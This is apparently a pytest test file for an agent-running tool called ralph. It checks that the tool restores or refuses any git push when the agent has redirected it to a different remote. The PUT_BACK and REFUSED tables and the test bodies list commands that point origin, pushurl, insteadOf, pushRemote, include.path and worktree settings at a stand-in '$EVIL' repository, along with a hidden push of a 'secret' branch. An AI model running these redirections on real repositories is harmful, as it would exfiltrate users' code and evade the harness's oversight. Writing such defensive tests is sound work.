"""A worker lets `git push` go elsewhere: what ralph's SCM task sends goes where it went when the run began, or nowhere."""
import subprocess

import pytest

PUT_BACK = {
    "the address": ("remote.origin.url", "git remote set-url origin \"$EVIL\""),
    "an address for pushes": ("remote.origin.pushurl", "git remote set-url --push origin \"$EVIL\""),
    "one more address": ("remote.origin.url", "git remote set-url --add origin \"$EVIL\""),
    "insteadOf": ("url.", "git config url.\"$EVIL\".insteadOf \"$GOOD\""),
    "pushInsteadOf": ("url.", "git config url.\"$EVIL\".pushInsteadOf \"$GOOD\""),
    "pushDefault": ("remote.pushDefault", "git remote add evil \"$EVIL\"; git config remote.pushDefault evil"),
    "another remote of the name": ("remote.origin.url", "git remote remove origin; git remote add origin \"$EVIL\"; git config branch.main.remote origin; "
                                   "git config branch.main.merge refs/heads/main"),
    "what is pushed": ("remote.origin.push", "git config remote.origin.push '+HEAD:refs/heads/other'"),
    "all branches": ("push.default", "[ -e .git/once ] || { touch .git/once; git push -q \"$GOOD\" HEAD:refs/heads/secret; git checkout -q -b secret; "
                     "git commit -q --allow-empty -m secret; git checkout -q main; }; git config push.default matching"),
    "included settings": ("include.path", "printf '[remote \"origin\"]\\n\\tpushurl = %s\\n' \"$EVIL\" > .git/more; git config include.path more"),
    "settings of the work tree": ("remote.origin.pushurl", "git config extensions.worktreeConfig true; git config --worktree remote.origin.pushurl \"$EVIL\""),
}
REFUSED = {
    "the remote of the branch": ("it would go to the remote evil, and when the run began it would have gone to origin",
                                 "git remote add evil \"$EVIL\"; git config branch.main.remote evil"),
    "an address as the remote": ("and when the run began it would have gone to origin", "git config branch.main.remote \"$EVIL\""),
    "pushRemote": ("it would go to the remote evil, and when", "git remote add evil \"$EVIL\"; git config branch.main.pushRemote evil"),
    "a new branch": ("it would go to the remote evil, and when",
                     "git remote add evil \"$EVIL\"; git checkout -qB work; git config branch.work.remote evil; git config branch.work.merge refs/heads/work"),
    "the branch there": ("branch.main.merge changed since the run began", "git config branch.main.merge refs/heads/other"),
    "the user's own settings": ("changed since the run began, and it might go elsewhere",
                                "git config --global url.\"$EVIL\".pushInsteadOf \"$GOOD\""),
}


def bare(project, name):
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", project.base / name], check=True, env=project.environment())
    return str(project.base / name)


def refs(project, name):
    found = project.git("-C", str(project.base / name), "for-each-ref", "--format=%(refname) %(objectname)").splitlines()
    return dict(line.split() for line in found)


def prepare(project, remote=True):
    project.git_init()
    project.git("branch", "-M", "main")
    good, evil = bare(project, "good.git"), bare(project, "evil.git")
    if remote:
        project.git("remote", "add", "origin", good)
        project.git("push", "-qu", "origin", "main")
    project.settings(scm={"command": "git", "tasks": ["commit", "push"]})
    return {"GOOD": good, "EVIL": evil}


def worker(project, how):
    project.agent_script(f"echo $RALPH_ITERATION >> work; {how}\necho 'A message'; echo '<response>DONE</response>'")


@pytest.mark.parametrize("how", PUT_BACK)
def test_it_is_put_back_before_the_push(project, how):
    name, command = PUT_BACK[how]
    places = prepare(project)
    before = project.git("config", "--local", "--get-regexp", "^(remote.origin|remote.push|push|url)")
    worker(project, command)
    result = project.run("run", "-p", "do it", "-m", "1", env=places)
    assert result.code == 0, result
    assert refs(project, "evil.git") == {}
    good = refs(project, "good.git")
    assert good["refs/heads/main"] == project.git("rev-parse", "main").strip()
    assert "refs/heads/other" not in good
    if "refs/heads/secret" in good:
        assert good["refs/heads/secret"] == project.git("rev-parse", "secret~1").strip()
    changed = [f for r in project.records("triggers_changed") for f in r["files"]]
    assert any(name in f["note"] and f["action"] == "put_back" for f in changed), changed
    kept = [project.run_folder() / f["kept"] for f in changed if f["action"] == "put_back"]
    assert all(path.exists() for path in kept) and name in result.out
    assert project.git("config", "--local", "--get-regexp", "^(remote.origin|remote.push|push|url)") == before


@pytest.mark.parametrize("how", REFUSED)
def test_or_the_push_is_refused(project, how):
    sentence, command = REFUSED[how]
    places = prepare(project)
    began = refs(project, "good.git")
    worker(project, command)
    result = project.run("run", "-p", "do it", "-m", "2", env=places)
    assert result.code == 1, result
    assert "it was not run: " in result.out and sentence in result.out
    assert "put that back, or start a new run to push there" in (project.run_folder() / "prompt_2.txt").read_text()
    assert refs(project, "evil.git") == {} and refs(project, "good.git") == began


def test_a_remote_where_there_was_none_is_not_pushed_to(project):
    places = prepare(project, remote=False)
    worker(project, 'git remote add origin "$EVIL" 2> /dev/null')
    result = project.run("run", "-p", "do it", "-m", "1", env=places)
    assert result.code == 1 and "it would go to the remote origin, which was not there when the run began" in result.out, result
    assert refs(project, "evil.git") == {}


def test_a_remote_that_is_named_in_the_task_is_the_users(project):
    places = prepare(project)
    project.settings(scm={"command": "git", "tasks": ["commit", "push backup HEAD"]})
    worker(project, 'git remote add backup "$EVIL" 2> /dev/null')
    result = project.run("run", "-p", "do it", "-m", "1", env=places)
    assert result.code == 1 and "it would go to the remote backup, which was not there when the run began" in result.out, result
    project.git("remote", "set-url", "backup", places["GOOD"])
    result = project.run("run", "-p", "do it", "-m", "1", env=places)
    assert result.code == 0 and refs(project, "evil.git") == {}, result


def test_a_change_of_the_users_during_the_run_is_kept_and_named(project):
    places = prepare(project)
    new = bare(project, "new.git")
    project.agent_script(f"git remote set-url origin '{new}'; echo x >> work; echo 'A message'; echo '<response>DONE</response>'")
    result = project.run("run", "-p", "do it", "-m", "1", env=places)
    assert result.code == 0, result
    changed = project.last("triggers_changed")["files"][0]
    assert changed["path"] == ".git/config" and "remote.origin.url" in changed["note"]
    assert new in (project.run_folder() / changed["kept"]).read_text(), "the changed version is there"
    assert changed["kept"] in result.out or "changed/1" in result.out


def test_what_a_push_needs_is_no_redirection(project):
    """The first push of a branch sets its upstream; new remotes and branches are an agent's business."""
    places = prepare(project)
    project.settings(scm={"command": "git", "tasks": ["commit", "push -u origin HEAD"]})
    worker(project, 'git checkout -qB work; git remote add other "$EVIL" 2> /dev/null; git config branch.another.remote other; '
                    '[ $RALPH_ITERATION = 2 ] || exit 0')
    result = project.run("run", "-p", "do it", "-m", "2", env=places)
    assert result.code == 0, result
    assert refs(project, "evil.git") == {}
    assert refs(project, "good.git")["refs/heads/work"] == project.git("rev-parse", "HEAD").strip()
    assert not project.records("triggers_changed")


def test_after_a_kill_it_is_known_where_it_went(project):
    from support import wait_until
    places = prepare(project)
    project.agent_script(f"""if [ -e "{project.base}/went" ]; then echo x >> work; echo 'A message'; echo '<response>DONE</response>'
else touch "{project.base}/went"; git remote set-url origin "$EVIL"; git remote add evil "$EVIL"; git config branch.main.pushRemote evil
touch "{project.base}/at-work"; sleep 60; fi""")
    running = project.start("run", "-p", "do it", "-m", "2", env=places)
    wait_until((project.base / "at-work").exists)
    running.kill_both()
    result = project.run("runs", "resume", env=places)
    assert result.code == 1, result
    assert "it would go to the remote evil, and when the run began it would have gone to origin" in result.out
    assert refs(project, "evil.git") == {}
    assert project.git("remote", "get-url", "origin").strip() == places["GOOD"]
